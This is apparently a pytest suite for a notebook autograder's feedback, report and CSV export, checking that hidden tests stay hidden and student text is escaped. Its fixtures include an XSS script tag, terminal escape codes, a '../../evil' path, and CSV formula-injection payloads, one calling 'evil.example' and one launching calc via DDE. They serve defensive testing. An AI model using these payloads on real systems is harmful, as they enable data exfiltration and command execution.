"""`python -m autograde feedback` and `report` on hand-made results (no grading needed):
scores, diagnoses and check marks in the feedback, escaped student text, pass rates,
grouped mistakes, the submissions that need attention, and no test source anywhere."""
import json
import re
import struct

import pytest

from autograde import batch
from autograde.__main__ import main
from autograde.feedback import fenced, path_part, write_feedback
from autograde.report import normalise, summarise, write_report
from autograde import results as verdicts
from autograde.results import NotebookResult

A1, A2 = "01_attention", "02_heads"
INJECTION = "<script>alert(1)</script>"
ESCAPE = "\x1b[2J\x1b[31m"  # clear screen, red: must not reach a terminal
HIDDEN_MARKERS = ("BEGIN HIDDEN TESTS", "hidden_secret_marker_42")
POINTS = {"test_scores": 2.0, "test_sdpa": 3.0, "test_hidden": 1.0}


def passed(grade_id, output=""):
    return verdicts.TestResult(grade_id, POINTS[grade_id], POINTS[grade_id], "passed", "", output)


def failed(grade_id, message, status="failed"):
    return verdicts.TestResult(grade_id, 0.0, POINTS[grade_id], status, message)


def graded(student, *tests, problems=()):
    return NotebookResult(student, A1, A1, "graded", tests=list(tests),
                          problems=list(problems))


def class_results():
    """Five students of 01_attention and one of 02_heads.

    alice: everything passes; bob, carol: the same scaling bug with different numbers;
    bob's code imports the checks (flagged); carol also times out and sends HTML; dave:
    ungradable; erin: a shape bug, a crash and an error in her own cell."""
    scaling = ("attention_scores is wrong (largest error {}). Did you forget to divide "
               "by sqrt(d_k)?\nIn your code:\n  line 3: return q @ k.transpose(-2, -1)")
    results = [
        graded("alice", passed("test_scores", "\u2714 attention_scores: shape (2, 3, 5)\n"),
               passed("test_sdpa", "\u2714 sdpa matches torch\n"), passed("test_hidden")),
        graded("bob", failed("test_scores", scaling.format("0.31")),
               failed("test_sdpa", "sdpa: expected shape (2, 3, 4), got (2, 4, 3)."),
               passed("test_hidden"),
               problems=[{"cell": "cell scores, line 1", "kind": "suspicious",
                          "message": "imports checks.attention (the checks run in the "
                                     "grader: a solution needs none of this)"}]),
        graded("carol", failed("test_scores", scaling.format("0.5")),
               failed("test_sdpa", "Timed out: the call ran over 60 s. Each test may take "
                      "60 s and the notebook 300 s.", status="timeout"),
               failed("test_hidden", f"your value {INJECTION} is not a tensor{ESCAPE}")),
        NotebookResult("dave", A1, A1, "error", "no notebook named 01_attention.ipynb; "
                       "found Untitled.ipynb (rename it to 01_attention.ipynb)",
                       tests=[failed(g, "no notebook named 01_attention.ipynb", "error")
                              for g in POINTS]),
        graded("erin", passed("test_scores"),
               failed("test_sdpa", "sdpa: expected shape (5, 6), got (6, 5)."),
               failed("test_hidden", "Your code crashed the grader's process for it: "
                      "killed by signal 9.", status="crash"),
               problems=[{"cell": "cell scores, line 3", "kind": "error",
                          "message": "NameError: name 'q' is not defined"}]),
        NotebookResult("alice", A2, A2, "graded",
                       tests=[verdicts.TestResult("test_heads", 1.0, 1.0, "passed")]),
    ]
    return {(r.student, r.assignment): r for r in results}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course directory with the results saved as `grade` saves them, a source notebook
    holding hidden tests beside them, and the feedback and report written by the CLI."""
    course_dir = tmp_path_factory.mktemp("course")
    for (student, assignment), result in class_results().items():
        path = batch.result_path(course_dir, student, assignment)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(dict(result.to_json(), recorded=True)))
    source = course_dir / "source" / A1 / f"{A1}.ipynb"
    source.parent.mkdir(parents=True)
    hidden = ("assert True\n### BEGIN HIDDEN TESTS\nassert hidden_secret_marker_42\n"
              "### END HIDDEN TESTS\n")
    source.write_text(json.dumps({"cells": [{"cell_type": "code", "source": hidden,
                                             "metadata": {"nbgrader": {
                                                 "grade": True, "grade_id": "test_hidden",
                                                 "points": 1}}}]}))
    assert main(["feedback", "--course-dir", str(course_dir)]) == 0
    assert main(["report", "--course-dir", str(course_dir)]) == 0
    return course_dir


def read(course_dir, *parts):
    return (course_dir.joinpath(*parts)).read_text(encoding="utf-8")


def fenced_lines(markdown):
    """The lines of a Markdown text that lie inside ``` fences."""
    inside, fence, found = False, "", []
    for line in markdown.splitlines():
        marker = re.match(r"\s*(`{3,})\s*$", line)
        if marker and (not inside or marker.group(1) == fence):
            inside, fence = not inside, marker.group(1)
        elif inside:
            found.append(line)
    return found


def test_feedback_files_for_every_student_and_assignment(course, capsys):
    names = sorted(p.relative_to(course / "feedback").as_posix()
                   for p in (course / "feedback").rglob("*.*"))
    expected = sorted(f"{s}/{a}.{ext}" for s, a in class_results() for ext in ("html", "md"))
    assert names == expected
    html = read(course, "feedback", "alice", f"{A1}.html")
    assert html.startswith("<!DOCTYPE html>")
    # self-contained: no script, stylesheet link, image or any other external asset
    assert not re.search(r"<script|<link|<img|src=|href=|@import|url\(", html)


def test_feedback_scores_statuses_diagnoses_and_check_marks(course):
    alice = read(course, "feedback", "alice", f"{A1}.html")
    assert "<strong>6</strong> / 6" in alice
    assert "\u2714 attention_scores: shape (2, 3, 5)" in alice  # a pass shows its check marks
    bob = read(course, "feedback", "bob", f"{A1}.md")
    assert "Score: **1 / 6**" in bob
    assert "- `test_scores`: 0 / 2, failed" in bob
    assert "- `test_hidden`: 1 / 1, passed" in bob
    assert "attention_scores is wrong (largest error 0.31)" in bob
    # the instructor's flag is not an error of the student's code
    assert "Errors in your code" not in bob and "imports checks" not in bob
    assert "line 3: return q @ k.transpose(-2, -1)" in bob  # the whole diagnosis, not one line
    carol = read(course, "feedback", "carol", f"{A1}.html")
    assert "timed out" in carol and "Timed out: the call ran over 60 s" in carol
    erin = read(course, "feedback", "erin", f"{A1}.md")
    assert "## Errors in your code" in erin and "NameError: name 'q' is not defined" in erin
    assert "crashed" in erin


def test_feedback_for_an_ungradable_submission_shows_why(course):
    for ext in ("html", "md"):
        text = read(course, "feedback", "dave", f"{A1}.{ext}")
        assert "could not be graded" in text
        assert "found Untitled.ipynb (rename it to 01_attention.ipynb)" in text
        assert "not graded" in text
    md = read(course, "feedback", "dave", f"{A1}.md")
    # the reason is given once, not repeated under each of the three tests
    assert md.count("no notebook named") == 1


def test_student_text_is_escaped_and_stripped_of_control_characters(course):
    html = read(course, "feedback", "carol", f"{A1}.html")
    assert INJECTION not in html
    assert "your value &lt;script&gt;alert(1)&lt;/script&gt; is not a tensor" in html
    md = read(course, "feedback", "carol", f"{A1}.md")
    assert [line for line in md.splitlines() if INJECTION in line] == \
        [line for line in fenced_lines(md) if INJECTION in line] != []
    report = read(course, "report.md")
    assert all(line.startswith("    ") for line in report.splitlines() if "<script" in line)
    for path in list((course / "feedback").rglob("*.*")) + [course / "report.md"]:
        assert "\x1b" not in path.read_text(encoding="utf-8"), path


def test_no_test_source_is_ever_shown(course):
    for path in list((course / "feedback").rglob("*.*")) + [course / "report.md"]:
        text = path.read_text(encoding="utf-8")
        for marker in HIDDEN_MARKERS:
            assert marker not in text, (path, marker)


def test_report_scores_and_pass_rates(course):
    report = read(course, "report.md")
    section = report.split(f"## {A1}")[1].split(f"## {A2}")[0]
    # dave is ungradable: left out of the rates and scores, and said so
    assert "4 graded submissions; 1 ungradable" in section
    assert re.search(r"\| 2\.25 +\| 1\.5 +\| 0 +\| 6 +\| 1/4 ", section)  # scores 6, 1, 0, 2
    assert re.search(r"\| `test_scores` +\| 2/4 +\| 50% +\|", section)
    assert re.search(r"\| `test_sdpa` +\| 1/4 +\| 25% +\|", section)
    assert re.search(r"\| `test_hidden` +\| 2/4 +\| 50% +\|", section)
    assert re.search(r"\| `test_heads` +\| 1/1 +\| 100% +\|", report.split(f"## {A2}")[1])


def test_report_groups_mistakes_whatever_their_numbers(course):
    section = read(course, "report.md").split(f"## {A1}")[1].split(f"## {A2}")[0]
    assert ("2x, 2 students: attention_scores is wrong (largest error #). "
            "Did you forget to divide by sqrt(d_k)?") in section
    assert "2x, 2 students: sdpa: expected shape (…), got (…)." in section
    assert "e.g. bob: attention_scores is wrong (largest error 0.31)." in section
    # infrastructure failures are not students' mistakes
    assert "Timed out" not in section.split("\nNeeds attention (")[0]
    summary = summarise(class_results())[A1]
    assert [m.count for m in summary.mistakes] == [2, 2, 1]
    assert summary.mistakes[0].students == {"bob", "carol"}


def test_report_names_everyone_who_needs_attention(course):
    section = read(course, "report.md").split("\nNeeds attention (")[1]
    assert "dave: could not be graded" in section
    assert "found Untitled.ipynb" in section
    assert "carol: test_sdpa: timed out" in section and "Timed out: the call ran over" in section
    assert "erin: test_hidden: crashed" in section and "killed by signal 9" in section
    assert "bob: suspicious code" in section and "imports checks.attention" in section
    assert "alice" not in section


def test_report_png_is_a_real_chart(course):
    data = (course / "report.png").read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", data[16:24])  # the IHDR chunk
    assert width >= 600 and height >= 300
    assert len(data) > 10_000  # bars, labels and two panels, not an empty canvas
    assert "![Pass rate of each test cell](report.png)" in read(course, "report.md")


def test_write_functions_return_the_paths_they_wrote(tmp_path):
    results = class_results()
    feedback = write_feedback(tmp_path, results)
    assert len(feedback) == 2 * len(results) and all(p.is_file() for p in feedback)
    report = write_report(tmp_path, results)
    assert [p.name for p in report] == ["report.md", "report.png"]
    assert write_report(tmp_path / "empty", {})[1].is_file()  # no results: still an image


def test_a_student_id_cannot_escape_the_feedback_folder(tmp_path):
    result = NotebookResult("../../evil", A1, A1, "graded")
    with pytest.raises(ValueError):
        write_feedback(tmp_path, {(result.student, A1): result})
    assert path_part("alice.smith") == "alice.smith"


def test_a_result_graded_but_not_recorded_keeps_its_diagnoses(tmp_path):
    result = graded("frank", passed("test_scores"), failed("test_sdpa", "sdpa is wrong"),
                    passed("test_hidden"))
    result.status, result.error = "error", "nbgrader could not record this result: locked"
    results = {("frank", A1): result}
    write_feedback(tmp_path, results)
    md = read(tmp_path, "feedback", "frank", f"{A1}.md")
    assert "could not be recorded" in md and "sdpa is wrong" in md and "3 / 6" in md
    summary = summarise(results)[A1]
    assert len(summary.graded) == 1 and summary.passed["test_scores"] == 1
    assert [(a.student, a.reason) for a in summary.attention] == \
        [("frank", "report.reason.not_recorded")]


def test_normalise_numbers_and_shapes():
    assert normalise("largest error 0.31.") == normalise("largest error 5e-05.") \
        == "largest error #."
    assert normalise("got (2, 4, 3) not (2,)") == "got (…) not (…)"
    assert normalise("torch.Size([3, 4])") == "torch.Size([…])"
    # numbers inside names and single arguments keep their meaning
    assert normalise("float32 d_k=4 exp(88.7) 01_attention") == "float32 d_k=# exp(#) 01_attention"


def test_a_fence_cannot_be_closed_by_the_text_inside():
    text = "before\n```\n<b>after</b>"
    block = fenced(text)
    assert block.startswith("````\n") and block.endswith("\n````")
    assert fenced_lines(block) == text.splitlines()


# -- CSV formula injection (issue 21): OWASP's rule on every cell of every CSV written ------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_that_start_like_a_formula_are_neutralised():
    from autograde.exports import csv_cell
    cases = {FORMULA: "'" + FORMULA, "+1+1": "'+1+1", "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
             "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'=1",
             "\x1b]0;pwned\x07=1": "]0;pwned=1", "a=b": "a=b", "passed": "passed", "": ""}
    for text, expected in cases.items():
        assert csv_cell(text) == expected, text
    # numbers stay numbers, negative ones too (as values, and as the text nbgrader writes)
    for number in (-1.5, 0.0, 3, "-1.5", "-2", "+3e5", "2.0", ".5"):
        assert csv_cell(number) == number


def test_tests_csv_neutralises_every_student_controlled_cell(tmp_path):
    import csv

    from autograde.exports import export_tests
    evil = NotebookResult("=1+1", A1, A1, "graded", tests=[
        verdicts.TestResult("@test_scores", 0.0, 2.0, "failed",
                            f"{FORMULA}: raised by the student's code\nsecond line"),
        verdicts.TestResult("test_sdpa", -1.0, 3.0, "failed", "-1 is " + ESCAPE + "wrong")])
    path = export_tests({("=1+1", A1): evil}, tmp_path / "tests.csv")
    with open(path, newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1:] == [
        ["'=1+1", A1, "'@test_scores", "0.0", "2.0", "failed",
         f"'{FORMULA}: raised by the student's code"],
        ["'=1+1", A1, "test_sdpa", "-1.0", "3.0", "failed", "'-1 is [2J[31mwrong"]]


def test_grades_csv_neutralises_what_nbgrader_writes(tmp_path):
    import csv

    from nbgrader.api import Gradebook

    from autograde.exports import export_grades
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(url) as gradebook:
        gradebook.add_assignment(A1)
        gradebook.add_student("=cmd|' /C calc'!A0", first_name="@SUM(1)",
                              last_name="-2+3", email="\x1b[2J+x@example.org")
    path = export_grades(tmp_path, tmp_path / "grades.csv", url)
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    row = rows[0]
    assert (row["student_id"], row["first_name"], row["last_name"], row["email"]) == (
        "'=cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", "[2J+x@example.org")
    assert row["raw_score"] in ("0.0", "0") and row["max_score"] in ("0.0", "0")
    assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
                   for cell in row.values())
